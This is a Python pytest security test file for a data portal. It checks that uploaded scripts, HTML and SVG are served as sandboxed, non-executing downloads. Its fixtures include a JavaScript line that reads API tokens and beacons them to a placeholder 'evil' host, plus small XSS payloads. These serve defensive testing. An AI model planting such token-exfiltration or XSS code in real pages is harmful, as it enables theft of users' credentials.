"""Uploaded files are data, never script or a page of the portal's origin: an editor who uploads a
script and declares `text/javascript` must not get a same-origin script that `<script src>` could load
under the portal's `script-src 'self'`, nor an HTML or SVG page that runs in the portal's origin."""

from __future__ import annotations

import io
from typing import Any

import httpx
import pytest

from obert.storage.tables.catalog import resources
from tests.security.world import World

SCRIPT = b"fetch('/api/v1/tokens').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
PAGE = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def _resource(world: World, name: str, **fields: Any) -> str:
    response = world.client.post(
        "/api/v1/datasets/ds-public/resources", json={"name": name, **fields}, headers=world.headers["editor"]
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


def _upload(world: World, resource: str, filename: str, content: bytes) -> httpx.Response:
    return world.client.post(
        f"/api/v1/resources/{resource}/upload",
        files={"file": (filename, io.BytesIO(content), "application/octet-stream")},
        headers=world.headers["editor"],
    )


def _download(world: World, resource: str) -> httpx.Response:
    body = world.client.get(f"/api/v1/resources/{resource}", headers=world.headers["editor"]).json()
    # As its editor: who else may download a file before its table is published is not this file's concern.
    response = world.client.get(
        body["url"].removeprefix("http://testserver"), headers=world.headers["editor"]
    )
    assert response.status_code == 200, response.text
    return response


def _assert_inert(response: httpx.Response, media_type: str) -> None:
    assert response.headers["content-type"].split(";")[0] == media_type
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.headers["x-content-type-options"] == "nosniff"
    csp = response.headers["content-security-policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp


@pytest.mark.parametrize(
    "declared",
    [
        "text/javascript",
        "application/javascript",
        " Text/JavaScript ; charset=utf-8",
        "application/x-ecmascript",
        "text/html",
        "application/xhtml+xml",
        "image/svg+xml",
        "text/css",
    ],
)
def test_declaring_an_active_media_type_on_an_upload_is_refused(world: World, declared: str) -> None:
    resource = _resource(world, "fitxer")
    assert _upload(world, resource, "dades.txt", SCRIPT).status_code == 200
    refused = world.client.patch(
        f"/api/v1/resources/{resource}", json={"media_type": declared}, headers=world.headers["editor"]
    )
    assert refused.status_code == 422, refused.text
    (error,) = refused.json()["errors"]
    assert error["field"] == "media_type" and "uploaded file" in error["message"]
    _assert_inert(_download(world, resource), "text/plain")


def test_a_link_may_still_describe_a_web_page(world: World) -> None:
    # Without an upload the media type only describes someone else's page: obert serves nothing.
    resource = _resource(world, "enllac", access_url="https://example.org/informe", media_type="text/html")
    described = world.client.get(f"/api/v1/resources/{resource}").json()
    assert described["media_type"] == "text/html"


@pytest.mark.parametrize(
    ("filename", "content"),
    [("informe.html", PAGE), ("mapa.svg", SVG), ("app.js", SCRIPT), ("estil.css", b"body{}")],
)
def test_an_uploaded_page_or_script_is_served_as_bytes_to_save(
    world: World, filename: str, content: bytes
) -> None:
    resource = _resource(world, "pagina")
    uploaded = _upload(world, resource, filename, content)
    assert uploaded.status_code == 200, uploaded.text
    response = _download(world, resource)
    assert response.content == content
    _assert_inert(response, "application/octet-stream")


def test_a_script_type_set_before_this_check_is_not_served_as_script(world: World) -> None:
    resource = _resource(world, "antic")
    assert _upload(world, resource, "dades.csv", SCRIPT).status_code == 200
    with world.portal.store.begin() as conn:
        conn.execute(
            resources.update().where(resources.c.id == resource).values(media_type="text/javascript")
        )
    _assert_inert(_download(world, resource), "application/octet-stream")


@pytest.mark.parametrize(
    ("filename", "content", "declared", "served"),
    [
        ("dades.csv", b"a,b\n1,2\n", None, "text/csv"),
        ("dades.json", b'{"a": 1}', None, "application/json"),
        ("mapa.geojson", b'{"type": "FeatureCollection", "features": []}', None, "application/geo+json"),
        ("foto.png", PNG, None, "image/png"),
        ("dades.xml", b"<a/>", None, "application/xml"),
        ("dades.bin", b"\x00\x01", "application/vnd.apache.parquet", "application/vnd.apache.parquet"),
        ("dades.txt", b"a;b\n", "text/csv; charset=utf-8", "text/csv"),
        ("dades.bin", b"\x00", "application/x-unheard-of", "application/octet-stream"),
    ],
)
def test_data_keeps_its_media_type_and_is_still_sandboxed(
    world: World, filename: str, content: bytes, declared: str | None, served: str
) -> None:
    resource = _resource(world, "dades", **({"media_type": declared} if declared else {}))
    assert _upload(world, resource, filename, content).status_code == 200
    _assert_inert(_download(world, resource), served)


def test_an_upload_to_a_resource_that_described_a_page_is_not_served_as_one(world: World) -> None:
    resource = _resource(
        world, "era-enllac", access_url="https://example.org/informe", media_type="text/html"
    )
    assert _upload(world, resource, "informe.csv", b"a,b\n1,2\n").status_code == 200
    assert world.client.get(f"/api/v1/resources/{resource}").json()["media_type"] == "text/csv"
    _assert_inert(_download(world, resource), "text/csv")


def test_a_format_whose_media_type_is_active_does_not_make_an_upload_active(world: World) -> None:
    resource = _resource(world, "format")
    assert _upload(world, resource, "dades.txt", PAGE).status_code == 200
    changed = world.client.patch(
        f"/api/v1/resources/{resource}",
        json={"format": "HTML", "media_type": None},
        headers=world.headers["editor"],
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["format"] == "HTML" and changed.json()["media_type"] is None
    _assert_inert(_download(world, resource), "application/octet-stream")
